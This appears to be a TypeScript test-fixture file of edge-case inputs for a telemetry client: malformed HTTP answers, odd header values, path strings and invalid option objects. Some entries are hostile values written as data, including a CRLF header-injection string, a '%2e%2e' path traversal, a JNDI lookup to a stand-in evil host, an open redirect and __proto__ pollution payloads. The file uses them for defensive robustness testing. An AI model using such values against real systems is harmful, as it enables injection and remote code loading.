/** Cases that once went wrong, here or in another driver, or that come close; each property below is run on them first. */

/** What a server may say instead of an HTTP answer of the telemetry service. */
export const ANSWERS: readonly string[] = [
  '',
  '\r\n\r\n',
  'HTTP/1.1 200 OK\r\n\r\n',
  'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}',
  'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}',
  'HTTP/1.1 200 OK\r\nContent-Length: 99\r\nConnection: close\r\n\r\n{}',
  'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n',
  'HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n',
  'HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 100 Continue\r\n\r\n',
  'HTTP/1.1 103 Early Hints\r\nLink: <x>\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n',
  'HTTP/1.1 204 No Content\r\n\r\n',
  'HTTP/1.1 999 \r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 302 Found\r\nLocation: //evil.example\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 429 Too Many\r\nRetry-After: -1\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 429 Too Many\r\nRetry-After: 99999999999999999999\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 503 Down\r\nRetry-After: Wed, 99 Foo 2026 00:00:00 GMT\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 200 OK\r\nContent-Length: 30\r\n\r\n{"numProtoSuccess":-1e400,"a":1',
  'HTTP/1.1 200 OK\r\nContent-Length: 45\r\n\r\n{"__proto__":{"numProtoSuccess":9},"errors":1}',
  'HTTP/1.1 200 OK\r\nContent-Length: 35\r\n\r\n{"errors":[{"index":-1},null,"x",[]]}',
  `HTTP/1.1 200 OK\r\nX: ${'y'.repeat(20_000)}\r\n\r\n`,
];

/** Values that may come out of an application's provider of headers. */
export const HEADER_VALUES: readonly unknown[] = [
  'Bearer token',
  'Bearer token\r\nX-Injected: 1',
  'Bearer \u0000',
  'Bearer töken',
  'Bearer 🙂',
  '',
  ' ',
  42,
  null,
  undefined,
  ['Bearer a', 'Bearer b'],
  {},
  Symbol('token'),
  'x'.repeat(100_000),
];

/** Attribute values where a text is expected: http paths, hosts, user agents. */
export const TEXTS: readonly string[] = [
  '/sql/1.0/warehouses/abc?o=123',
  '/sql/1.0/warehouses/abc?o=1&o=2',
  '/sql/1.0/warehouses/%2e%2e/secret',
  '/sql/1.0/warehouses/abc?token=dapi0123456789abcdef0123456789abcdef',
  '/o/99999999999999999999/abc',
  '/o//',
  '?o=',
  '\u2028\u2029\u0000\u001b[31m',
  '\ud800',
  '"}]}',
  '${jndi:ldap://evil.example}',
  '__proto__',
  'line\nbreak\r\nof a log',
];

/** Option objects that an application should not give. */
export const CONFIGS: readonly unknown[] = [
  null,
  42,
  'text',
  [],
  () => undefined,
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
  Object.create(null),
  { requestHook: 'no function', statementMaxDurationMs: Number.NaN },
  { maxQueueSize: '500', scheduledDelayMs: -1, maxExportBatchSize: Infinity },
  { host: 42, token: {}, headers: 7, retry: null, circuitBreaker: 'x' },
  { host: '', access: {} },
  { customHeaders: null, dryRun: 'nowhere', onPayload: 3 },
];
